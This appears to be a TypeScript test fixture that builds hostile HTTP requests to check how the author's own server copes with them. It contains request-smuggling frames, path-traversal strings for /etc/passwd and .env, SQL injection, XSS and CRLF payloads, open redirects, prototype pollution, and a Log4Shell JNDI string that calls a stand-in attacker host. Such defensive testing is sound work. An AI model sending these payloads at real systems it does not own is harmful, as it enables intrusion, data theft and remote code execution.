/** What no browser sends and attackers do, byte by byte. */
import { spoiltBodies } from './hostile-bodies.ts'
import { form, get, host, post, request, type Header, type Named } from './hostile-bytes.ts'

export interface HostileRequest {
  name: string
  bytes: Buffer
}

/** Each can be sent to a connection of its own; all are answered, or cut off, at once. */
export function hostileRequests(): HostileRequest[] {
  const groups = {
    framing: brokenFrames,
    methods: otherMethods,
    targets: strangeTargets,
    headers: spoiltHeaders,
    bodies: spoiltBodies,
  }
  return Object.entries(groups).flatMap(([group, make]) =>
    make().map(([name, bytes]) => ({ name: `${group}: ${name}`, bytes })),
  )
}

const posted = (headers: readonly Header[], body = 'a=b') => request('POST /resume HTTP/1.1', [host, ...headers], body)

function brokenFrames(): Named[] {
  return [
    ['two lengths', posted(['Content-Length: 3', 'Content-Length: 4'])],
    ['two equal lengths', posted(['Content-Length: 3', 'Content-Length: 3'])],
    ['a list of lengths', posted(['Content-Length: 3, 3'])],
    [
      'length and chunks',
      posted(['Content-Length: 3', 'Transfer-Encoding: chunked'], '0\r\n\r\nGET /desk HTTP/1.1\r\n\r\n'),
    ],
    ['chunks twice', posted(['Transfer-Encoding: chunked', 'Transfer-Encoding: chunked'], '0\r\n\r\n')],
    ['chunks, identity', posted(['Transfer-Encoding: chunked, identity'], '0\r\n\r\n')],
    ['x-chunked', posted(['Transfer-Encoding: xchunked'], '0\r\n\r\n')],
    ['chunked behind a tab', posted(['Transfer-Encoding:\tchunked'], '0\r\n\r\n')],
    ['a space before the colon', posted(['Content-Length : 3'])],
    ['a folded header', posted(['Content-Length: 3', 'X-A: b\r\n c'])],
    ['a negative length', posted(['Content-Length: -1'])],
    ['a signed length', posted(['Content-Length: +3'])],
    ['a length in hex', posted(['Content-Length: 0x3'])],
    ['a length beyond all numbers', posted(['Content-Length: 99999999999999999999999'])],
    ['a chunk of bad size', posted(['Transfer-Encoding: chunked'], 'zz\r\nab\r\n0\r\n\r\n')],
    ['a chunk of huge size', posted(['Transfer-Encoding: chunked'], 'ffffffffffffffff\r\nab\r\n0\r\n\r\n')],
    [
      'a chunk with a long extension',
      posted(['Transfer-Encoding: chunked'], `1;${'x'.repeat(20_000)}\r\na\r\n0\r\n\r\n`),
    ],
    ['line feeds only', Buffer.from('GET / HTTP/1.1\nHost: x\n\n')],
    ['no host', request('GET / HTTP/1.1')],
    ['two hosts', request('GET / HTTP/1.1', [host, 'Host: evil.example'])],
    ['a NUL in a header', get('/', ['X-A: a\0b'])],
    ['a bad name of a header', get('/', ['X(A): b'])],
    ['a header without a colon', get('/', ['nonsense'])],
    ['an empty name', get('/', [': x'])],
    [
      '2,000 headers',
      get(
        '/',
        Array.from({ length: 2_000 }, (_, index) => `X-${index}: y`),
      ),
    ],
    ['a header of 100 kB', get('/', [`X-A: ${'x'.repeat(100_000)}`])],
    ['HTTP/0.9', Buffer.from('GET /\r\n\r\n')],
    ['HTTP/1.2', request('GET / HTTP/1.2', [host])],
    ['HTTP/9.9', request('GET / HTTP/9.9', [host])],
    ['HTTP/2', Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')],
    ['no version', Buffer.from('GET / \r\n\r\n')],
    ['TLS', Buffer.from('16030100a5010000a10303', 'hex')],
    ['noise', Buffer.from(Array.from({ length: 2_000 }, (_, index) => (index * 7_919) % 256))],
    ['only line feeds', Buffer.from('\r\n'.repeat(500) + 'X\r\n\r\n')],
    ['SMTP', Buffer.from('EHLO evil.example\r\nMAIL FROM:<a@b>\r\n\r\n')],
    ['a target of 100 kB', get(`/${'a'.repeat(100_000)}`)],
    ['a second request inside the first', posted(['Content-Length: 3'], 'a=bGET /desk HTTP/1.1\r\nHost: x\r\n\r\n')],
  ]
}

function otherMethods(): Named[] {
  const names = [
    'TRACE',
    'TRACK',
    'CONNECT',
    'OPTIONS',
    'PUT',
    'DELETE',
    'PATCH',
    'PROPFIND',
    'LOCK',
    'PURGE',
    'get',
    'FOO',
  ]
  const targets = ['/', '/reports', '/api/v1/plan', '/assets/x.js', '*']
  return names.flatMap((name) =>
    targets.map((target): Named => [
      `${name} ${target}`,
      request(`${name} ${target} HTTP/1.1`, [host, 'X-Secret: shown']),
    ]),
  )
}

const spellings = [
  '/%00',
  '/%',
  '/%zz',
  '/%E3%81',
  '/%c0%af%c0%af/etc/passwd',
  '/%F0%9F',
  '/%ff%fe',
  '/../../../../etc/passwd',
  '/..%2f..%2f..%2fetc%2fpasswd',
  '/%2e%2e/%2e%2e/package.json',
  '/assets/../server/index.js',
  '/assets/..%2fserver%2findex.js',
  '/assets/%2e%2e%2f%2e%2e%2f.env',
  '/build/server/index.js',
  '/app/server.ts',
  '/.env',
  '/.git/config',
  '/node_modules/react/package.json',
  '//evil.example/',
  '///evil.example/%2f..',
  '/\\evil.example',
  '/%5cevil.example',
  'http://evil.example/',
  'http://evil.example:99999/',
  'https://evil.example/desk',
  'http://',
  'javascript:alert(1)',
  '/;/desk',
  '/desk;x=y',
  '/desk/',
  '//desk',
  '/desk//case-files',
  '/DESK',
  '/desk.data',
  '/_root.data',
  '/_.data',
  '/operator/people.data',
  '/operator/people.data?_routes=routes%2Foperator%2Fpeople',
  '/desk.data?_routes=routes%2Frecipient%2Fqueue',
  '/demo.data?_routes=root',
  '/__manifest',
  '/__manifest?paths=%2Fdesk&version=x',
  `/__manifest?paths=${encodeURIComponent(Array.from({ length: 300 }, (_, index) => `/a/${index}`).join(','))}&version=x`,
  '/.well-known/appspecific/com.chrome.devtools.json',
  '/?__proto__[polluted]=1',
  '/?constructor[prototype][polluted]=1',
  '/__proto__',
  '/constructor',
  '/toString',
  '/hasOwnProperty/valueOf',
  `/desk/case-files/'%20or%201=1--`,
  '/desk/case-files/1;drop%20table%20reports',
  '/reports/%27%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
  '/reports/AAAA-AAAA-AA/deliveries/x.pdf',
  '/reports/AAAA-AAAA-AA/receipt/99999999999999999999.pdf',
  '/calendar/%00.ics',
  '/calendar/../../x.ics',
  '/language/xx',
  '/language/ja?back=//evil.example',
  '/language/ja?back=https://evil.example',
  '/language/ja?back=%0d%0aSet-Cookie:%20a=b',
  '/sign-in?next=//evil.example',
  '/sign-in/openid/..%2f',
  '/sign-in/openid/ppc/done?code=x&state=x&iss=http://127.0.0.1',
  '/verify?digest=%00',
  '/desk?after=%00&q=%00',
  `/?${'a=b&'.repeat(1_500)}`,
  '/notices/stop/%00',
  '/enrol/%00',
  '/a?b#c',
  '/\u00e9',
  '/?\u0080',
]

function strangeTargets(): Named[] {
  return spellings.flatMap((target): Named[] => [
    [`GET ${target.slice(0, 60)}`, get(target)],
    [`POST ${target.slice(0, 60)}`, post(target, form, 'a=b')],
  ])
}

const spoofs: readonly Header[] = [
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-Host: a b',
  'X-Forwarded-Proto: javascript',
  'X-Forwarded-For: 127.0.0.1',
  'Forwarded: for=127.0.0.1;host=evil.example;proto=https',
  'X-Original-URL: /operator/people',
  'X-Rewrite-URL: /operator/people',
  'X-HTTP-Method-Override: DELETE',
  'X-React-Router-SPA-Mode: yes',
  'X-React-Router-Prerender-Data: %5B%7B%22a%22%3A1%7D%5D',
  'X-Remix-Request: yes',
  'Cookie: report=%zz; staff=%E3%81; flash=%00',
  'Cookie: staff=a.b.c.d.e; report=1.NaN.x',
  `Cookie: ${'a=b; '.repeat(2_000)}`,
  'Cookie: __proto__=x; constructor=y',
  `Cookie: errand=${'A'.repeat(3_000)}.x`,
  'Accept-Language: ja;q=zz,*;q=-1,,,;',
  `Accept-Language: ${'ja,'.repeat(3_000)}`,
  'Accept-Language: ../../etc/passwd',
  'Accept-Encoding: br;q=x, gzip;q=0, *;q=',
  'Accept: application/json',
  `Accept: ${'*/*,'.repeat(3_000)}`,
  'Range: bytes=0-1,2-3,4-5,-1',
  'If-None-Match: *',
  'If-Modified-Since: never',
  'Authorization: Bearer eyJhbGciOiJub25lIn0.e30.',
  'Authorization: Basic %%%',
  'Origin: null',
  'Origin: https://evil.example',
  'Referer: https://evil.example/',
  'Sec-Fetch-Site: cross-site',
  'Purpose: prefetch',
  'Upgrade: websocket',
  'Upgrade: h2c',
  'Expect: 100-continue',
  'Expect: everything',
  'TE: trailers, deflate;q=0.5',
  'Content-Encoding: gzip',
  'Last-Event-ID: 999999999999999999999',
  'User-Agent: ${jndi:ldap://evil.example/a}',
  "User-Agent: '; drop table sessions; --",
]

function spoiltHeaders(): Named[] {
  const hosts = [
    'a b',
    'evil.example/..',
    'evil@127.0.0.1',
    '[::1',
    '',
    'x'.repeat(300),
    '127.0.0.1:99999999',
    '<script>',
  ]
  return [
    ...spoofs.map((header): Named => [header.slice(0, 60), get('/desk', [header])]),
    ...spoofs.map((header): Named => [
      `${header.slice(0, 60)} with a form`,
      post('/resume', form, 'reference=x', [header]),
    ]),
    ...hosts.map((name): Named => [`host ${name.slice(0, 30)}`, request('GET / HTTP/1.1', [`Host: ${name}`])]),
  ]
}
